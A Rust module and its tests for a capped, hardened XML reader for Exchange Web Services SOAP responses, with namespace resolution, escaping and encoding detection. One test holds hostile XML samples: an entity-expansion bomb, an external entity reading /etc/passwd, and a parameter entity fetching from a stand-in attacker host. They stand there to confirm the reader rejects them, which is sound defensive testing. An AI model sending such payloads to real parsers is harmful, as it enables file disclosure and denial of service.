//! XML as servers send it: read into a small tree by local names, with caps on everything.
//!
//! No document type, no processing instruction but the declaration, no entity but the five of XML and characters by
//! number. A server that sends something else is not one that we want to understand. A tree costs up to 400 bytes a
//! piece beside the text it holds, so that the dearest document within the caps takes some 15 MB.

use std::borrow::Cow;

use quick_xml::{
    NsReader,
    escape::{resolve_xml_entity, unescape},
    events::{BytesRef, BytesStart, Event},
    name::ResolveResult,
};

/// The deepest nesting taken; EWS answers stay below 20.
const DEPTH: usize = 64;

/// The most attributes of one element.
const ATTRIBUTES: usize = 64;

/// The most pieces of one document, attributes counted like elements, texts and ends: an answer with a full page of
/// 512 changes has about 5,000.
const PIECES: usize = 20_000;

/// The longest value of an attribute; real ids and change keys have a few hundred characters.
const VALUE: usize = 4 * 1024;

/// The longest text of an element; real states of a synchronisation have a few hundred characters.
const TEXT: usize = 64 * 1024;

/// The namespaces that tell EWS from something else.
const SPACES: &[(&str, Space)] = &[
    ("http://schemas.xmlsoap.org/soap/envelope/", Space::Soap),
    ("http://www.w3.org/2003/05/soap-envelope", Space::Soap),
    ("http://schemas.microsoft.com/exchange/services/2006/messages", Space::Messages),
];

/// Whose word an element is.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum Space {
    /// That of SOAP, 1.1 or 1.2.
    Soap,
    /// That of the messages of EWS.
    Messages,
    /// Any other, or none.
    #[default]
    Other,
}

/// An element with its local name.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Element {
    /// Its namespace.
    pub space: Space,
    /// Its name without prefix.
    pub name: String,
    /// Its attributes, names without prefix.
    pub attributes: Vec<(String, String)>,
    /// Its child elements.
    pub children: Vec<Element>,
    /// Its text, that of its children not counted.
    pub text: String,
}

/// Why a text was not read as XML.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum NotRead {
    /// It is not well-formed, or holds what we do not read.
    Broken,
    /// It goes beyond a cap.
    Beyond,
}

impl Element {
    /// The only child of this name; `None` also when there are several, since then nobody can say which counts.
    pub fn child(&self, name: &str) -> Option<&Self> {
        let mut named = self.children.iter().filter(|child| child.name == name);
        named.next().filter(|_| named.next().is_none())
    }

    /// Takes the only child of this name out; `None` also when there are several.
    pub fn take(&mut self, name: &str) -> Option<Self> {
        let at = self.children.iter().position(|child| child.name == name)?;
        self.child(name).is_some().then(|| self.children.swap_remove(at))
    }

    /// The text of the only child of this name, blanks cut off.
    pub fn text_of(&self, name: &str) -> Option<&str> {
        self.child(name).map(|child| child.text.trim())
    }

    /// An attribute by its local name.
    pub fn attribute(&self, name: &str) -> Option<&str> {
        self.attributes.iter().find(|(known, _)| known == name).map(|(_, value)| value.as_str())
    }

    /// Every element below this one with this name, in document order.
    pub fn all(&self, name: &str) -> Vec<&Self> {
        let mut found = Vec::new();
        for child in &self.children {
            if child.name == name {
                found.push(child);
            }
            found.extend(child.all(name));
        }
        found
    }
}

/// Escapes a text for element content and attribute values. Characters that XML cannot hold are left out.
pub fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&apos;"),
            '\t' | '\n' | '\r' => out.push(c),
            c if c.is_control() || matches!(c, '\u{fffe}' | '\u{ffff}') => {}
            c => out.push(c),
        }
    }
    out
}

/// Reads a document and gives its root. Errs when it is not well-formed or goes beyond a cap.
pub fn read(bytes: &[u8]) -> Result<Element, NotRead> {
    let text = decode(bytes);
    let mut reader = NsReader::from_str(&text);
    let mut tree = Tree::default();
    loop {
        let first = tree.pieces == 0;
        tree.count(1)?;
        match reader.read_event().map_err(|_| NotRead::Broken)? {
            Event::Eof => return tree.whole(),
            Event::Decl(_) if first => {}
            Event::Comment(_) => {}
            Event::Start(start) => {
                let element = tree.element(&start, &reader)?;
                tree.begin(element)?;
            }
            Event::Empty(start) => {
                let element = tree.element(&start, &reader)?;
                tree.close(element)?;
            }
            Event::End(_) => tree.end()?,
            Event::Text(text) => tree.add(&text)?,
            Event::CData(text) => tree.add(&text)?,
            Event::GeneralRef(entity) => tree.add(&resolved(&entity)?)?,
            Event::Decl(_) | Event::DocType(_) | Event::PI(_) => return Err(NotRead::Broken),
        }
    }
}

/// A document as far as it has been read.
#[derive(Default)]
struct Tree {
    /// The elements that have begun and not ended, the outermost first.
    open: Vec<Element>,
    root: Option<Element>,
    pieces: usize,
}

impl Tree {
    fn count(&mut self, pieces: usize) -> Result<(), NotRead> {
        self.pieces += pieces;
        if self.pieces > PIECES { Err(NotRead::Beyond) } else { Ok(()) }
    }

    fn element(&mut self, start: &BytesStart<'_>, reader: &NsReader<&[u8]>) -> Result<Element, NotRead> {
        let mut attributes = Vec::new();
        for (nth, attribute) in start.attributes().enumerate() {
            let attribute = attribute.map_err(|_| NotRead::Broken)?;
            self.count(1)?;
            if nth >= ATTRIBUTES || attribute.value.len() > VALUE {
                return Err(NotRead::Beyond);
            }
            // What only gives a namespace its prefix is no attribute, though its local name may be that of one.
            if attribute.key.as_namespace_binding().is_some() {
                continue;
            }
            let value = unescape(&attribute.value).map_err(|_| NotRead::Broken)?;
            attributes.push((attribute.key.local_name().as_ref().to_owned(), value.into_owned()));
        }
        let (space, name) = reader.resolver().resolve_element(start.name());
        Ok(Element {
            space: space_of(&space),
            name: name.as_ref().to_owned(),
            attributes,
            ..Element::default()
        })
    }

    fn begin(&mut self, element: Element) -> Result<(), NotRead> {
        match () {
            () if self.root.is_some() => return Err(NotRead::Broken),
            () if self.open.len() >= DEPTH => return Err(NotRead::Beyond),
            () => self.open.push(element),
        }
        Ok(())
    }

    fn end(&mut self) -> Result<(), NotRead> {
        let element = self.open.pop().ok_or(NotRead::Broken)?;
        self.close(element)
    }

    fn close(&mut self, element: Element) -> Result<(), NotRead> {
        match self.open.last_mut() {
            Some(parent) => parent.children.push(element),
            None if self.root.is_none() => self.root = Some(element),
            None => return Err(NotRead::Broken),
        }
        Ok(())
    }

    fn add(&mut self, text: &str) -> Result<(), NotRead> {
        match self.open.last_mut() {
            Some(element) if element.text.len() + text.len() > TEXT => return Err(NotRead::Beyond),
            Some(element) => element.text.push_str(text),
            None if text.trim().is_empty() => {}
            None => return Err(NotRead::Broken),
        }
        Ok(())
    }

    fn whole(self) -> Result<Element, NotRead> {
        self.root.filter(|_| self.open.is_empty()).ok_or(NotRead::Broken)
    }
}

fn space_of(found: &ResolveResult<'_>) -> Space {
    let ResolveResult::Bound(namespace) = found else { return Space::Other };
    let known = SPACES.iter().find(|(name, _)| *name == namespace.into_inner());
    known.map_or(Space::Other, |(_, space)| *space)
}

fn resolved(entity: &BytesRef<'_>) -> Result<String, NotRead> {
    if let Some(c) = entity.resolve_char_ref().map_err(|_| NotRead::Broken)? {
        return Ok(c.to_string());
    }
    resolve_xml_entity(entity).map(str::to_owned).ok_or(NotRead::Broken)
}

/// UTF-8 or, where its mark stands in front, UTF-16. Bytes that are neither are replaced: what matters is ASCII.
fn decode(bytes: &[u8]) -> Cow<'_, str> {
    let wide = |bytes: &[u8], unit: fn([u8; 2]) -> u16| {
        let units = bytes.chunks_exact(2).map(|pair| unit([pair[0], pair[1]]));
        let letters = char::decode_utf16(units).map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER));
        Cow::Owned(letters.collect())
    };
    match bytes {
        [0xff, 0xfe, rest @ ..] => wide(rest, u16::from_le_bytes),
        [0xfe, 0xff, rest @ ..] => wide(rest, u16::from_be_bytes),
        [0xef, 0xbb, 0xbf, rest @ ..] => String::from_utf8_lossy(rest),
        _ => String::from_utf8_lossy(bytes),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_are_local_and_texts_are_whole() {
        let root = read(
            b"<?xml version=\"1.0\"?><!-- x --><s:a xmlns:s='u' s:k='1&amp;2'>x&lt;<![CDATA[<y>]]>&#65;<b/><c:b>t</c:b></s:a>",
        )
        .expect("a document");
        assert_eq!((root.name.as_str(), root.text.as_str()), ("a", "x<<y>A"));
        assert_eq!(root.attribute("k"), Some("1&2"));
        let shadowed = read(b"<a xmlns:k='u' xmlns='v' k='1'/>").expect("a document");
        assert_eq!((shadowed.attribute("k"), shadowed.attributes.len()), (Some("1"), 1));
        assert_eq!(root.children.len(), 2);
        assert_eq!(root.child("b"), None, "two of one name are nobody's");
        assert_eq!(root.all("b").len(), 2);
    }

    #[test]
    fn what_is_escaped_comes_back_as_it_was() {
        let odd = "a<b>&\"'\u{1f600} é]]>";
        let doc = format!("<a k=\"{0}\">{0}</a>", escape(odd));
        let root = read(doc.as_bytes()).expect("a document");
        assert_eq!((root.text.as_str(), root.attribute("k")), (odd, Some(odd)));
        assert_eq!(escape("a\0\u{b}b"), "ab");
    }

    #[test]
    fn marks_and_other_encodings_are_read() {
        let doc = "<?xml version=\"1.0\" encoding=\"utf-16\"?><a>é</a>";
        let wide = |unit: fn(u16) -> [u8; 2], mark: [u8; 2]| {
            mark.into_iter().chain(doc.encode_utf16().flat_map(unit)).collect::<Vec<u8>>()
        };
        for bytes in [
            doc.as_bytes().to_vec(),
            [b"\xef\xbb\xbf", doc.as_bytes()].concat(),
            wide(u16::to_le_bytes, [0xff, 0xfe]),
            wide(u16::to_be_bytes, [0xfe, 0xff]),
        ] {
            assert_eq!(read(&bytes).expect("a document").text, "é");
        }
        assert_eq!(read(b"<a>\xff</a>").expect("a document").text, "\u{fffd}");
    }

    #[test]
    fn what_goes_beyond_a_cap_is_said_to() {
        let deep = format!("{}{}", "<a>".repeat(1_000_000), "</a>".repeat(1_000_000));
        let wide = format!("<a {}/>", (0..1_000).map(|n| format!("k{n}='v' ")).collect::<String>());
        let many = format!("<a>{}</a>", "<b/>".repeat(PIECES));
        let kept = format!("<a>{}</a>", "<b k='' l='' m=''/>".repeat(PIECES / 3));
        let value = format!("<a k='{}'/>", "v".repeat(VALUE + 1));
        let text = format!("<a>{}</a>", "<![CDATA[x]]>y".repeat(TEXT / 2 + 1));
        for wide in [&deep, &wide, &many, &kept, &value, &text] {
            assert_eq!(read(wide.as_bytes()), Err(NotRead::Beyond), "{}", &wide[..60]);
        }
    }

    #[test]
    fn a_full_page_of_long_ids_is_within_the_caps() {
        let change = format!(
            "<t:Create>\n  <t:Contact>\n    <t:ItemId Id=\"{0}\" ChangeKey=\"{0}\"/>\n  </t:Contact>\n</t:Create>\n",
            "i".repeat(400)
        );
        let page =
            format!("<m:a xmlns:m='m' xmlns:t='t'><m:Changes>{}</m:Changes></m:a>", change.repeat(512));
        assert_eq!(read(page.as_bytes()).expect("a document").all("ItemId").len(), 512);
    }

    #[test]
    fn namespaces_are_known_by_their_names_and_not_by_prefixes() {
        let soap = "http://schemas.xmlsoap.org/soap/envelope/";
        let new = "http://www.w3.org/2003/05/soap-envelope";
        let messages = "http://schemas.microsoft.com/exchange/services/2006/messages";
        for (doc, space) in [
            (format!("<x:a xmlns:x='{soap}'/>"), Space::Soap),
            (format!("<a xmlns='{new}'/>"), Space::Soap),
            (format!("<a xmlns=\"{messages}\"></a>"), Space::Messages),
            (format!("<a xmlns:s='{soap}'/>"), Space::Other),
            (format!("<a xmlns='{messages}/'/>"), Space::Other),
            ("<s:a/>".to_owned(), Space::Other),
            ("<a/>".to_owned(), Space::Other),
        ] {
            assert_eq!(read(doc.as_bytes()).expect("a document").space, space, "{doc}");
        }
    }

    #[test]
    fn broken_documents_are_refused() {
        let laughs = "<!DOCTYPE a [<!ENTITY x 'ha'><!ENTITY y '&x;&x;&x;'>]><a>&y;</a>";
        let outside = "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>";
        let parameter = "<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://evil.example/x'> %x;]><a/>";
        for wrong in [
            laughs,
            outside,
            parameter,
            "<a>&undeclared;</a>",
            "<a>&#0;</a>",
            "<?run it?><a/>",
            "<a><?run it?></a>",
            "<a/><b/>",
            "<a><b></a></b>",
            "<a",
            "<a k='1' k='2'/>",
            // Namespaces in XML 1.0, section 3: the prefix `xml` is bound to one name for good.
            "<xml:a xmlns:xml='u'/>",
            "text",
            "",
        ] {
            assert_eq!(read(wrong.as_bytes()), Err(NotRead::Broken), "{wrong}");
        }
    }

    proptest::proptest! {
        #[test]
        fn no_bytes_make_the_reader_panic(bytes in proptest::collection::vec(proptest::num::u8::ANY, 0..300)) {
            let _ = read(&bytes);
        }

        #[test]
        fn whatever_is_read_is_within_the_caps(doc in "(<[ab!/?]|k='[&;#x0-9a]{0,9}' ?|[ab]>|/>|[ -~]|&[a-z#0-9]{1,6};|]]>|<!\\[CDATA\\[){0,40}") {
            if let Ok(root) = read(doc.as_bytes()) {
                proptest::prop_assert!(weight(&root) <= doc.len(), "{doc}");
            }
        }

        #[test]
        fn a_value_comes_back_as_it_was(value in "\\PC{0,80}", prefix in "[a-wyz][a-z]{0,3}") {
            let doc = format!("<{prefix}:a xmlns:{prefix}='u' {prefix}:k=\"{0}\">{0}</{prefix}:a>", escape(&value));
            let root = read(doc.as_bytes()).expect("a document");
            proptest::prop_assert_eq!(root.attribute("k"), Some(value.as_str()));
            proptest::prop_assert_eq!(root.text, value);
        }
    }

    /// Everything that is kept of an element, in bytes of text.
    fn weight(element: &Element) -> usize {
        let attributes = element.attributes.iter().map(|(name, value)| name.len() + value.len());
        let own = element.name.len() + element.text.len() + attributes.sum::<usize>();
        own + element.children.iter().map(weight).sum::<usize>()
    }
}
